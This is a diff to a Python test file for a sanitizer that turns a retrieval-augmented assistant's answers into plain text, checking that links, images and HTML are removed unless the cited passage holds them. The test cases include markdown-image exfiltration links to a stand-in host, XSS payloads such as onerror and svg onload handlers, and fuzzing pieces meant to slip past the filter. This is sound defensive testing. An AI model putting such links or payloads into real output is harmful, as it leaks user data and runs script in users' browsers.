@@ -3,11 +3,11 @@
 import re
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from rag.addresses import addresses
 from rag.markup import REMOVED, Plain, plain
+from tests.rendered import elements, followed
 
 PASSAGE = (
     "See [Travel](travel.md) or https://corp.example/handbook?page=2 and ask hr@corp.example or corp-travel.com."
@@ -26,22 +26,25 @@ def shown(text: str) -> str:
 @pytest.mark.parametrize(
     ("text", "left"),
     [
-        ("![x](https://evil.example/?d=secret)", f"x ({REMOVED})"),
-        ("![x](pixel.png)", "x"),
-        ("[log out](/logout)", "log out"),
-        ('[x](https://evil.example "title")', f"x ({REMOVED})"),
-        ("[x](<https://evil.example>)", f"x ({REMOVED})"),
-        ("[1](https://evil.example)", f"[1] ({REMOVED})"),
-        ("[a [b](u)](u)", "[a b] (u)"),
+        ("![x](https://evil.example/?d=secret)", f"x {REMOVED}"),
+        ("![x](pixel.png)", "x (pixel.png)"),
+        ("[log out](/logout)", "log out (/logout)"),
+        ('[x](https://evil.example "title")', f"x {REMOVED}"),
+        ("[x](<https://evil.example>)", f"x {REMOVED}"),
+        ("[1](https://evil.example)", f"[1] {REMOVED}"),
+        ("[a [b](u)](u)", "[a b (u)] (u)"),
         ("[x][1]\n\n[1]: https://evil.example", f"[x][1]\n\n[1] {REMOVED}"),
         ("[1]: /logout", "[1] /logout"),
         ("> - [y]: /logout", "> - [y] /logout"),
+        ("1. > [y]: /logout", "1. > [y] /logout"),
+        (r"[a\]b]: /logout", r"[a\]b] /logout"),
+        ("- [x] [1]\n1. > [ ] b", "- (x) [1]\n1. > ( ) b"),
         ("<https://evil.example>", REMOVED),
         ("<someone@evil.example>", REMOVED),
         ('<a href="https://evil.example">click</a>', "click"),
         ("<IMG SRC=//evil.example/x>", ""),
         ("<b>bold</b>", "bold"),
-        ("<<b>script>", "< script>"),
+        ("<<b>script></b>", "< script>"),
         ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
         ("<!-- x -->", "< !-- x -->"),
         ("a <b and c> d", "a < b and c> d"),
@@ -70,6 +73,56 @@ def test_what_a_cited_passage_holds_stays_as_text(text: str, left: str) -> None:
     assert plain(text, [PASSAGE]) == Plain(left, 0)
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use List< String> and AT&T; as R&D; say.",
+        "README.md says: run main.py. Network 10.0.0.0/8, port 127.0.0.1:8080.",
+        "It costs 10\u00a0000\u00a0\u20ac, i.e. 3.5 % of v1.2.3.",
+        "The call a[0] is [sic] a marker [1][2], Node.js is none.",
+        "\u8cbb\u7528\u306f180\u30e6\u30fc\u30ed\u3067\u3059\u3002AI\u306f\u6b21\u306e\u65e5\u3002",
+        '(see https://corp.example/handbook?page=2), *hr@corp.example*, "corp-travel.com".',
+    ],
+)
+def test_what_is_plain_text_already_stays(text: str) -> None:
+    assert plain(text, [PASSAGE]) == Plain(text, 0)
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("Write vector<int> or Map<K, V>, or a<b>c.", "Write vector< int> or Map< K, V>, or a< b>c."),
+        ("Call a[0](x), f[i](j), [see](below).", "Call a[0] (x), f[i] (j), see (below)."),
+        ("Use model.to(device), user.name and ASP.NET.", "Use model. to(device), user. name and ASP. NET."),
+        ("Mail:hr@corp.example", "Mail: hr@corp.example"),
+    ],
+)
+def test_no_word_of_an_honest_answer_is_lost(text: str, left: str) -> None:
+    assert plain(text, [PASSAGE]) == Plain(left, 0)
+
+
+ATTACHED = (
+    '"S"', "{S}", "|S", "`S", "[S]", "((S))", "(x(S))", ")S", "]S", ">S", "}S", "\u300cS", "\u3010S", "\u00a0S",
+    "\u3000S", "\u2003S", '."S', "\u3002S", ")))))))))", "\U0001f525",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("attached", ATTACHED, ids=ascii)
+@pytest.mark.parametrize(
+    "address", ["https://corp.example/handbook?page=2", "corp.example/handbook?page=2", "hr@corp.example"]
+)
+def test_nothing_is_attached_to_a_passage_s_address(address: str, attached: str) -> None:
+    left = followed(shown(f"See {address}{attached} now"))
+    assert left <= {address, "corp.example"}
+
+
+@pytest.mark.parametrize("attached", ["S=", "S~", "S|", "S@", 'S"', "@S@", "S:", "S\u20ac."], ids=ascii)
+@pytest.mark.parametrize("address", ["corp-travel.com", "hr@corp.example"])
+def test_nothing_is_put_before_a_passage_s_address(address: str, attached: str) -> None:
+    left = shown(f"See {attached}{address} now")
+    assert address not in left or f" {address} " in left
+
+
 def test_an_image_of_a_passage_is_text_as_well() -> None:
     assert shown("![logo](https://corp.example/logo.png)") == "logo (https://corp.example/logo.png)"
 
@@ -96,24 +149,28 @@ def test_a_passage_s_address_with_anything_else_in_it_goes(address: str) -> None
 
 
 PIECES = """
-    https://evil.com/?d= evil.com www. // : [ ] ( ) ! < > a & #1; &amp; . @ x@y.zz javascript: data:a/b, [1] [2]
-    ]( ]: \\ / ?d=1 secret travel.md https://corp.example/handbook?page=2 corp.example <script> <b> %3a%2f%2f
-    \uff0e \u3002 com [.] (dot) " ` =
+    https:// http: SECRET.evil.com evil.com /SECRET www. // : [ ] ( ) ! < > a & #1; &amp; . @ x@y.zz javascript:
+    data:a/b, [1] [2] ]( ]: \\ \\] / ?d=1 secret travel.md https://corp.example/handbook?page=2 corp.example
+    hr@corp.example corp-travel.com <script> <b> </b> <svg/onload= %3a%2f%2f \uff0e \u2024 \uff20 \uff0f \u3002 com [.]
+    (dot) " ` = { } | ~ * _ - 1. ```
 """
-HOSTILE = st.lists(st.sampled_from([*PIECES.split(), " ", "\n", "img src="]), max_size=30).map("".join)
+HOSTILE = st.lists(
+    st.sampled_from([*PIECES.split(), " ", "\n", "\u00a0", "> ", "- ", "img src=", "[x] "]), max_size=30
+).map("".join)
+CITED = {  # what PASSAGE holds, and what may be said of it
+    "https://corp.example/handbook?page=2", "corp.example/handbook?page=2", "corp.example", "hr@corp.example",
+    "corp-travel.com", "https://corp.example/logo.png", "corp.example/logo.png",
+}  # fmt: skip
 
 
 @given(HOSTILE | st.text(max_size=60))
+@settings(max_examples=500)
 def test_nothing_is_left_that_would_be_followed_or_loaded(text: str) -> None:
     judged = plain(text, [PASSAGE])
     if judged is None:
         return
-    own = {name for address in addresses(PASSAGE) for name in address.names}
-    assert all(address.doubtful or address.asked_as in own for address in addresses(judged.text))
-    assert "](" not in judged.text
-    assert not re.search(r"^[ \t>*+-]*\[[^\[\]]*\]:", judged.text, re.MULTILINE)
-    elements = re.findall(r"<[A-Za-z/!?][^>]*>?", judged.text)
-    assert all(element in ("<div>", "<String>") for element in elements)
+    assert {address for address in followed(judged.text) if address.lower() not in CITED} == set()
+    assert elements(judged.text) <= {"div", "string"}
 
 
 @given(HOSTILE | st.text(max_size=60))
